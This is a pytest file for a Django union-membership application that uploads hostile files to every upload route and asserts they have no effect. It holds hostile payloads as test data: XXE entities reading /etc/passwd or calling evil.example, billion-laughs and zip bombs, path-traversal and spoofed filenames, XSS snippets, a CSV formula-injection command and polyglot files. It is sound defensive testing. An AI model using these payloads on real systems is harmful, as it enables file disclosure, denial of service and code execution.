"""Hostile files do nothing: on every road that takes a file they are refused or kept as dead bytes, and nothing else happens."""

import re
import socket
import struct
import zipfile
import zlib
from io import BytesIO
from pathlib import Path

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from PIL import Image

from gonghui.faces.kit.signin import new_token
from gonghui.kernel.access.models import Account
from gonghui.kernel.evidence import files
from gonghui.kernel.evidence.models import Attachment
from gonghui.kernel.intake.models import RowError
from gonghui.lines.organization.membership.models import Membership

ENTITY = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "http://evil.example/x">]>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "' + b"ha" * 50 + b'">' + b"".join(
    b'<!ENTITY %c "%s">' % (n, b"&%c;" % (n - 1) * 50) for n in range(ord("b"), ord("k"))
) + b"]>"  # fmt: skip
TEXT = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' + b"<si><t>&%s;</t></si>" * 1 + b"</sst>"


def workbook(name: str = "张一民") -> bytes:
    book = openpyxl.Workbook()
    for row in (("工会编码", "姓名", "身份证号"), ("UNION", name, "")):
        book.active.append(row)
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def rebuilt(changes: dict[str, bytes]) -> bytes:
    """A workbook with parts put in or replaced."""
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(workbook())) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in changes:
                new.writestr(name, old.read(name))
        for name, data in changes.items():
            new.writestr(name, data)
    return out.getvalue()


def picture(kind="PNG") -> bytes:
    out = BytesIO()
    Image.new("RGB", (9, 9)).save(out, kind)
    return out.getvalue()


def huge() -> bytes:
    """A PNG that says it is 60,000 by 60,000 and holds almost nothing."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(b"\0" * 999))
        + chunk(b"IEND", b"")
    )


LINK = b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook/></externalLink>'
HOSTILE = {
    "external link": ("a.xlsx", lambda: rebuilt({"xl/externalLinks/externalLink1.xml": LINK})),
    "external relation": ("a.xlsx", lambda: rebuilt({"xl/_rels/x.rels": b'<Relationships><Relationship Target="http://evil.example/" TargetMode="External"/></Relationships>'})),
    "macro": ("a.xlsm", lambda: rebuilt({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"Auto_Open" * 99})),
    "xxe": ("a.xlsx", lambda: rebuilt({"xl/sharedStrings.xml": ENTITY + TEXT.replace(b"%s", b"a")})),
    "xxe from afar": ("a.xlsx", lambda: rebuilt({"xl/workbook.xml": ENTITY + b"<workbook>&b;</workbook>"})),
    "billion laughs": ("a.xlsx", lambda: rebuilt({"xl/sharedStrings.xml": LAUGHS + TEXT.replace(b"%s", b"j")})),
    "a part above": ("a.xlsx", lambda: rebuilt({"../../../../tmp/gonghui-evil": b"x", "/tmp/gonghui-evil": b"x"})),
    "a bomb": ("a.xlsx", lambda: rebuilt({"xl/media/a.bin": b"\0" * (410 << 20)})),
    "a page": ("a.png", lambda: b"<html><script>alert(1)</script></html>"),
    "svg": ("a.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "svg as a picture": ("a.png", lambda: b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'),
    "a program": ("a.pdf", lambda: b"MZ\x90\0" + b"\0" * 500),
    "a script": ("a.csv", lambda: b"#!/bin/sh\ntouch /tmp/gonghui-evil\n"),
    "picture and page": ("a.png", lambda: picture() + b"<script>alert(1)</script>"),
    "picture and archive": ("a.jpg", lambda: picture("JPEG") + workbook()),
    "archive behind a picture's head": ("a.jpg", lambda: b"\xff\xd8\xff\xe0" + workbook()),
    "pdf and page": ("a.pdf", lambda: b"%PDF-1.4\n<script>alert(1)</script>\n%%EOF"),
    "huge picture": ("a.png", huge),
    "torn picture": ("a.jpg", lambda: picture("JPEG")[:60]),
    "not the type it says": ("a.xlsx", lambda: picture()),
    "formula": ("a.csv", lambda: "工会编码,姓名\nUNION,=cmd|'/C calc'!A0\n".encode()),
    "names above": ("../../../etc/cron.d/a.png", picture),
    "names of windows": ("..\\..\\a\x00.png", picture),
    "a name that turns": ("a\u202egnp.exe", picture),
    "nothing": ("a.png", lambda: b""),
    "a very long name": ("长" * 4000 + ".png", picture),
}  # fmt: skip


@pytest.fixture(scope="module")
def told():
    counts = {"files": 0, "effects": 0}
    yield counts
    print(f"\nhostile files: files {counts['files']}, effects = {counts['effects']}")


@pytest.fixture
def calls(monkeypatch):
    """Addresses that somebody tried to reach while a file was read; the database's socket is none."""
    tried, connect = [], socket.socket.connect

    def note(self, address):
        if self.family != socket.AF_UNIX:
            tried.append(address)
        return connect(self, address)

    monkeypatch.setattr(socket.socket, "connect", note)
    return tried


def roads(cast):
    """(name, post) of every road that takes a file: a table and a photo, in the office, by a program, on the phone."""
    browser = Client(raise_request_exception=False)
    browser.force_login(Account.objects.for_act("test").get(pk=cast.accounts["wang"].pk), backend="gonghui.faces.kit.signin.AccountBackend")
    program = Client(raise_request_exception=False, headers={"Authorization": f"Bearer {new_token(cast.accounts['wang'])}"})
    table = {"node": cast.nodes["district"].pk, "kind": "members"}
    photo = {"node": cast.nodes["union"].pk, "series": "women", "title": "讲", "at_place": "礼堂", "head_count": 9}
    for client, at, name, day in ((browser, "/office/kernel/batch/act/{}/", "office", "2024-03-01"), (program, "/api/acts/{}", "api", "2024-03-02")):
        yield f"{name} table", lambda file, c=client, a=at: c.post(a.format("intake.check"), {**table, "file": file})
        at = at.replace("kernel/batch", "commons_activities/lectures")
        yield f"{name} photo", lambda file, c=client, a=at, d=day: c.post(a.format("lectures.file"), {**photo, "held_on": d, "photo": file})
    yield "phone photo", lambda file: browser.post("/portal/lectures/", {**photo, "held_on": "2024-03-03", "photo": file})


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_has_no_effect(cast, told, calls, settings, name):
    filename, make = HOSTILE[name]
    data, members = make(), Membership.objects.for_act("test").count()
    effects = []
    for road, post in roads(cast):
        told["files"] += 1
        upload = SimpleUploadedFile("a", data)
        upload._name = filename
        answer = post(upload)
        if answer.status_code >= 500:
            effects.append((road, "500"))
        body = b"".join(answer.streaming_content) if answer.streaming else answer.content
        if b"root:" in body or b"<script>alert" in body:
            effects.append((road, "shown"))
    kept = Attachment.objects.for_act("test").all()
    effects += [("name", row.name) for row in kept if re.search(r"[\\/\0\u202e]", row.name) or len(row.name) > 120]
    effects += [("type", row.mime) for row in kept if row.mime not in (*files.DOCUMENT, *files.SHEET)]
    known = {bytes(row.sm3).hex() for row in kept}
    for path in (p for p in Path(settings.MEDIA_ROOT).rglob("*") if p.is_file()):
        if path.name not in known or data and data in path.read_bytes() or path.stat().st_mode & 0o111:
            effects.append(("file", path.name))
    effects += [("row", text) for text in RowError.objects.values_list("says", flat=True) if "root:" in text]
    effects += [("call", address) for address in calls] + [("written", p) for p in ("/tmp/gonghui-evil",) if Path(p).exists()]
    effects += [("member", 1)] * (Membership.objects.for_act("test").count() - members)
    told["effects"] += len(effects)
    assert not effects


def test_the_same_roads_take_a_good_file(cast):
    good = {"table": ("a.xlsx", workbook()), "photo": ("a.png", picture())}
    for road, post in roads(cast):
        name, data = good[road.split()[1]]
        before = Attachment.objects.for_act("test").count()
        answer = post(SimpleUploadedFile(name, data))
        assert answer.status_code in (200, 201, 302), (road, answer.status_code)
        assert Attachment.objects.for_act("test").count() == before + 1, road
